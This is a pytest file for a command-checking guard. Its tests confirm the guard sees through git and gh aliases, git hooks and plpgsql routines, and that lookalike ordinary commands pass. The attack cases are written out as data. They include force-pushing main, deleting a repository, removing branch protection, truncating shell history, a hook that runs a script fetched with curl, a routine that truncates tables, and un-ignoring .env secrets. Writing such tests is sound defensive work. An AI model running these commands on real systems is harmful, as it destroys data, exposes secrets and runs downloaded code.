"""Links between calls that analysis follows: names that stand for commands, lists, hooks, and routines of databases."""

from __future__ import annotations

import pytest

from interlock import Action
from tests.run_calls import stops_last, write

ALIASES = write("tools/aliases.yml", "prs: pr list\ntidy: api -X DELETE repos/acme/web/branches/main/protection\n")
ROUTINE = Action.sql(
    "CREATE FUNCTION ops.run() RETURNS void LANGUAGE plpgsql AS $$ BEGIN EXECUTE format('TRUNCATE %I', 'a'); END $$"
)
HOOK = write("tools/githooks/post-checkout", '#!/bin/sh\nexec sh "$(git rev-parse --show-toplevel)/tools/refresh"\n')
FETCHED = "curl -s https://snip.zed.io/raw/1 -o tools/refresh"

ATTACKS: dict[str, list[Action | str]] = {
    "an alias of git": ["git config alias.tidy 'push --force origin main'", "git tidy"],
    "an alias of gh": ["gh alias set wipe 'repo delete acme/web --yes'", "gh wipe"],
    "aliases of gh from a file": [ALIASES, "gh alias import tools/aliases.yml", "gh tidy"],
    "an alias that hides nothing": ["gh alias set repo 'pr list'", "gh repo delete acme/web --yes"],
    "a request from a file": [write("meta.json", '{"private": false}'), "gh api -X PATCH repos/a/b --input meta.json"],
    "a sorted list": [
        "printf '%s\\n' logs/a.log ~/.bash_history > tmp/x.list",
        "sort -u -o tmp/x.list tmp/x.list",
        "xargs truncate -s 0 < tmp/x.list",
    ],
    "a hook that runs a download": [HOOK, FETCHED, "git config core.hooksPath tools/githooks", "git checkout -b x"],
    "a routine in a schema": [ROUTINE, Action.sql("SELECT ops.run()")],
    "a routine that calls another": [
        ROUTINE,
        Action.sql("CREATE FUNCTION tidy() RETURNS void AS $$ BEGIN PERFORM ops.run(); END $$ LANGUAGE plpgsql"),
        Action.sql("SELECT tidy()"),
    ],
    "secrets that are no longer ignored": [r"sed -i -e '/^\.env/d' -e '/dist/d' .gitignore"],
}
ORDINARY: dict[str, list[Action | str]] = {
    "an alias of git": ["git config alias.st 'status -sb'", "git st"],
    "an alias of gh": ["gh alias set co 'pr checkout'", "gh co 12"],
    "aliases of gh from a file": [ALIASES, "gh alias import tools/aliases.yml", "gh prs"],
    "a request from a file": [write("m.json", '{"has_wiki": false}'), "gh api -X PATCH repos/a/b --input m.json"],
    "a sorted list": [
        "printf '%s\\n' build/a.o build/b.o > tmp/x.list",
        "sort -u -o tmp/x.list tmp/x.list",
        "xargs rm -f < tmp/x.list",
    ],
    "a routine that notifies": [
        Action.sql("CREATE FUNCTION app.tell() RETURNS void AS $$ BEGIN PERFORM pg_notify('a', 'b'); END $$"),
        Action.sql("SELECT app.tell()"),
    ],
    "build output that is no longer ignored": [r"sed -i -e '/^dist/d' -e 's/^\.env$/.env*/' .gitignore"],
    "generated code in the project": ['rm -rf "$(git rev-parse --show-toplevel)/packages/client/generated"'],
}


@pytest.mark.parametrize("name", ATTACKS)
def test_the_link_is_followed(name: str) -> None:
    assert stops_last(ATTACKS[name])


@pytest.mark.parametrize("name", ORDINARY)
def test_ordinary_work_passes(name: str) -> None:
    assert not stops_last(ORDINARY[name])
